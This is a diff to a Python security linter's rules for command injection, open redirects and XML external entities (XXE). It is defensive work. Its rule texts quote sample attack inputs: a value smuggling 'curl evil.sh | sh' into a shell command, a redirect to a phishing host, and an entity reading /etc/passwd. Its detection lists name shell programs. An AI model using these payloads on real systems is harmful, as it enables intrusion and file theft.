@@ -1,4 +1,5 @@
-"""PY-CMDI-001 and PY-REDIRECT-001: commands run through a shell, redirects to attacker-chosen places."""
+"""PY-CMDI-001, PY-REDIRECT-001 and PY-XXE-001: shell commands, redirect targets and XML entities that the
+request gets to write."""
 
 from __future__ import annotations
 
@@ -11,7 +12,7 @@ from slopguard.engine.python.context import PyContext
 from slopguard.engine.python.taint import Flow
 from slopguard.engine.registry import Hit, hit_at, python_rule
 from slopguard.rules.python.common import describe, first_arg, method_name
-from slopguard.rules.python.injection_helpers import fixed_destination, resolve, url_checked
+from slopguard.rules.python.injection_helpers import fixed_destination, lookup_result, resolve, url_checked
 
 _SUBPROCESS = frozenset({"run", "call", "check_call", "check_output", "Popen"})
 _ALWAYS_SHELL = frozenset(
@@ -21,10 +22,9 @@ _ALWAYS_SHELL = frozenset(
     }
 )  # fmt: skip
 _EXEC_FAMILY = re.compile(r"^os\.(?:exec|spawn)(l|v)p?e?$|^os\.posix_spawnp?$")
-_SHELLS = frozenset(
-    {"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "cmd", "cmd.exe", "powershell", "pwsh"}
-)
+_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "cmd", "cmd.exe", "powershell", "pwsh"})
 _SCRIPT_FLAG = re.compile(r"^(?:-[a-zA-Z]*c[a-zA-Z]*|/[cCkK]|-(?i:command|encodedcommand))$")
+_OPERATOR_ORIGINS = ("sys.argv", "input()", "raw_input()")
 _STRING_COMMANDS = (ast.JoinedStr, ast.BinOp, ast.Subscript, ast.Attribute, ast.Call)
 
 
@@ -39,8 +39,9 @@ _STRING_COMMANDS = (ast.JoinedStr, ast.BinOp, ast.Subscript, ast.Attribute, ast.
     shell=True) because one string is shorter than an argument list. A shell parses the string: a filename
     or host such as 'x; curl evil.sh | sh' or '$(id)' runs the attacker's commands with the server's
     privileges. Passing the program name itself from the request gives them any binary on the box.""",
-    fix="""Pass an argument list without a shell: subprocess.run(["convert", name, out], check=True), with
-    "--" before user values where the tool accepts it; if a shell is unavoidable, shlex.quote() each value.""",
+    fix="""Pass an argument list without a shell: subprocess.run(["convert", name, out], check=True),
+    with "--" before user values where the tool accepts it; if a shell is unavoidable, shlex.quote() each
+    value.""",
 )
 def command_injection(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
     name = ctx.call_name(node)
@@ -78,11 +79,22 @@ def command_injection(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
 
 
 def _hit(node: ast.Call, what: str, flow: Flow) -> Hit:
+    advice = "pass an argument list without a shell, or shlex.quote() values"
+    if what.startswith("program"):
+        advice = "choose the program from a fixed allow-list"
     return hit_at(
         node,
-        f"{what} built from {describe(flow)}; pass an argument list without a shell, or shlex.quote() values",
+        f"{what} built from {describe(flow)}; {advice}",
         confidence=Confidence.HIGH if flow.tainted else Confidence.MEDIUM,
     )
+
+
+def _program_hit(node: ast.Call, ctx: PyContext, program: ast.expr, name: str) -> Hit | None:
+    """The program itself comes from a request (a CLI's own argv or prompt picks it on purpose)."""
+    flow = ctx.tainted(program)
+    if flow is None or flow.origin.startswith(_OPERATOR_ORIGINS):
+        return None
+    return _hit(node, f"program run by {name}() is", flow)
 
 
 def _shell_string(node: ast.Call, ctx: PyContext, cmd: ast.expr | None, what: str) -> Iterator[Hit]:
@@ -94,7 +106,7 @@ def _shell_string(node: ast.Call, ctx: PyContext, cmd: ast.expr | None, what: st
 
 
 def _argv(node: ast.Call, ctx: PyContext, cmd: ast.expr, name: str) -> Iterator[Hit]:
-    """``subprocess.run(argv)`` without a shell: the program and ``sh -c`` scripts matter, arguments do not."""
+    """``subprocess.run(argv)`` without a shell: the program and ``sh -c`` scripts matter, not arguments."""
     value = resolve(ctx, cmd)
     if isinstance(value, ast.List | ast.Tuple):
         yield from _argv_items(node, ctx, value.elts, name)
@@ -103,9 +115,9 @@ def _argv(node: ast.Call, ctx: PyContext, cmd: ast.expr, name: str) -> Iterator[
         return
     if isinstance(value, ast.Call) and method_name(value) != "split":
         return
-    flow = ctx.tainted(cmd)
-    if flow is not None:  # a whole command line (or argv) from the request: the attacker picks the program
-        yield _hit(node, f"program run by {name}() is", flow)
+    hit = _program_hit(node, ctx, cmd, name)  # a whole command line (or argv) from the request
+    if hit is not None:
+        yield hit
 
 
 def _argv_items(node: ast.Call, ctx: PyContext, items: Sequence[ast.expr], name: str) -> Iterator[Hit]:
@@ -116,9 +128,9 @@ def _argv_items(node: ast.Call, ctx: PyContext, items: Sequence[ast.expr], name:
     if text.rsplit("/", 1)[-1] == "env" and args:
         program, args = args[0], args[1:]
         text = ctx.string(resolve(ctx, program)) or ""
-    flow = ctx.tainted(program)
-    if flow is not None:
-        yield _hit(node, f"program run by {name}() is", flow)
+    hit = _program_hit(node, ctx, program, name)
+    if hit is not None:
+        yield hit
         return
     shell = text.replace("\\", "/").rsplit("/", 1)[-1].lower()
     if shell not in _SHELLS and shell.removesuffix(".exe") not in _SHELLS:
@@ -135,11 +147,10 @@ def _argv_items(node: ast.Call, ctx: PyContext, items: Sequence[ast.expr], name:
 
 
 _REDIRECT_MODULES = frozenset({"flask", "werkzeug", "django", "starlette", "fastapi", "quart", "sanic"})
-_REDIRECT_FUNCS = frozenset(
-    {"redirect", "HttpResponseRedirect", "HttpResponsePermanentRedirect", "RedirectResponse"}
-)
+_REDIRECT_FUNCS = frozenset({"redirect", "HttpResponseRedirect", "HttpResponsePermanentRedirect", "RedirectResponse"})
 _URL_KWARGS = ("location", "to", "redirect_to", "url")
-_SELF_URLS = frozenset({"url", "path", "full_path", "base_url", "url_root", "host_url"})
+# The page being served: redirecting back to it (POST/redirect/GET, appending a slash) is not an open redirect.
+_SELF_URLS = frozenset(f"request.{a}" for a in ("url", "path", "full_path", "base_url", "url_root", "host_url"))
 
 
 @python_rule(
@@ -149,10 +160,10 @@ _SELF_URLS = frozenset({"url", "path", "full_path", "base_url", "url_root", "hos
     severity=Severity.MEDIUM,
     confidence=Confidence.HIGH,
     nodes=(ast.Call,),
-    why="""After login, logout or a form post, assistants send the user back with redirect(request.args["next"])
-    or HttpResponseRedirect(request.GET.get("next")). An attacker mails a link to the real site with
-    ?next=https://evil.example/login; the trusted domain in the link makes the phishing page that follows
-    believable, and OAuth flows can leak tokens to it.""",
+    why="""After login, logout or a form post, assistants send the user back with
+    redirect(request.args["next"]) or HttpResponseRedirect(request.GET.get("next")). An attacker mails a
+    link to the real site with ?next=https://evil.example/login; the trusted domain in the link makes the
+    phishing page that follows believable, and OAuth flows can leak tokens to it.""",
     fix="""Redirect to url_for()/reverse() targets, or check the value first: Django's
     url_has_allowed_host_and_scheme(url, allowed_hosts={request.get_host()}), or accept only paths that start
     with a single '/', falling back to a fixed page.""",
@@ -170,12 +181,96 @@ def open_redirect(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
     flow = ctx.tainted(url)
     if flow is None:
         return
-    if isinstance(url, ast.Attribute) and url.attr in _SELF_URLS:  # redirect(request.url): back to this page
-        return
-    if fixed_destination(ctx, url) or url_checked(ctx, url, node.lineno):
+    if (
+        flow.origin in _SELF_URLS
+        or lookup_result(ctx, url)
+        or fixed_destination(ctx, url)
+        or url_checked(ctx, url, node.lineno)
+    ):
         return
     func = name.rsplit(".", 1)[-1]
     yield hit_at(
         node,
-        f"{func}() sends the user to a URL taken from {describe(flow)}; allow-list the target or use url_for()",
+        f"{func}() sends the user to a URL taken from {describe(flow)}; allow-list it or use url_for()",
+    )
+
+
+_LXML_MODULES = frozenset({"lxml.etree", "lxml.objectify"})
+_LXML_PARSE = frozenset({"parse", "fromstring", "XML", "fromstringlist", "XMLID", "iterparse"})
+_LXML_PARSERS = frozenset({"lxml.etree.XMLParser", "lxml.etree.XMLPullParser", "lxml.objectify.makeparser"})
+_STDLIB_XML = frozenset(
+    {"xml.etree.ElementTree", "xml.etree.cElementTree", "xml.dom.minidom", "xml.dom.pulldom", "xml.sax",
+     "xml.dom.expatbuilder"}
+)  # fmt: skip
+_STDLIB_PARSE = frozenset({"parse", "fromstring", "XML", "iterparse", "fromstringlist", "parseString", "XMLID"})
+_EXTERNAL_FEATURES = ("feature_external_ges", "feature_external_pes", "external-general-entities",
+                      "external-parameter-entities")  # fmt: skip
+
+
+@python_rule(
+    id="PY-XXE-001",
+    title="XML parser that expands external entities (XXE)",
+    cwe=(611, 776),
+    severity=Severity.HIGH,
+    confidence=Confidence.HIGH,
+    nodes=(ast.Call,),
+    why="""Assistants parse uploaded or posted XML (SAML, SOAP, RSS, office files) with lxml or the standard
+    library and sometimes switch on entity resolution to 'support DTDs'. A document declaring
+    <!ENTITY x SYSTEM "file:///etc/passwd"> makes the parser read local files or fetch internal URLs into the
+    result, and nested entities ('billion laughs') exhaust memory.""",
+    fix="""Parse untrusted XML with defusedxml (defusedxml.ElementTree.fromstring); with lxml pass
+    etree.XMLParser(resolve_entities=False, no_network=True); never enable external-entity SAX features.""",
+)
+def xxe(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
+    name = ctx.call_name(node)
+    module, _, func = name.rpartition(".")
+    if name in _LXML_PARSERS or name == "lxml.etree.iterparse":
+        unsafe = _unsafe_options(ctx, node)
+        if unsafe:
+            message = f"{func}({unsafe}) lets documents pull in local files and URLs"
+            yield hit_at(node, message, confidence=Confidence.MEDIUM)
+            return
+    if method_name(node) == "setFeature" and len(node.args) > 1:
+        flag = node.args[1]
+        feature = ctx.qualname(node.args[0]) or ctx.string(node.args[0]) or ""
+        on = ctx.is_true(flag) or (isinstance(flag, ast.Constant) and flag.value == 1)
+        if on and any(feature.endswith(f) for f in _EXTERNAL_FEATURES):
+            yield hit_at(node, "SAX parser switched to resolve external entities; leave the feature off")
+        return
+    if module in _LXML_MODULES and func in _LXML_PARSE:
+        yield from _lxml_parse(node, ctx, func)
+    elif module in _STDLIB_XML and func in _STDLIB_PARSE:
+        data = first_arg(node, "source")
+        flow = ctx.tainted(data) if data is not None else None
+        if flow is not None:
+            message = f"{module}.{func}() parses {describe(flow)}; use defusedxml against entity expansion"
+            yield hit_at(node, message, severity=Severity.MEDIUM, confidence=Confidence.MEDIUM)
+
+
+def _unsafe_options(ctx: PyContext, call: ast.Call) -> str:
+    if ctx.is_true(ctx.kwarg(call, "resolve_entities")):
+        return "resolve_entities=True"
+    if ctx.is_false(ctx.kwarg(call, "no_network")):
+        return "no_network=False"
+    return ""
+
+
+def _lxml_parse(node: ast.Call, ctx: PyContext, func: str) -> Iterator[Hit]:
+    data = first_arg(node, "source") or first_arg(node, "text")
+    flow = ctx.tainted(data) if data is not None else None
+    if flow is None or ctx.is_false(ctx.kwarg(node, "resolve_entities")):
+        return
+    parser = ctx.kwarg(node, "parser") or (node.args[1] if len(node.args) > 1 and func != "iterparse" else None)
+    built = resolve(ctx, parser) if parser is not None else None
+    if isinstance(built, ast.Call) and ctx.is_false(ctx.kwarg(built, "resolve_entities")):
+        return
+    if parser is not None and not isinstance(built, ast.Call):  # a parser made elsewhere: cannot tell
+        return
+    if isinstance(built, ast.Call) and _unsafe_options(ctx, built):
+        return  # reported once, where the parser is built
+    yield hit_at(
+        node,
+        f"lxml {func}() parses {describe(flow)} with entity resolution on (the default before lxml 5); "
+        "pass etree.XMLParser(resolve_entities=False, no_network=True)",
+        confidence=Confidence.MEDIUM,
     )
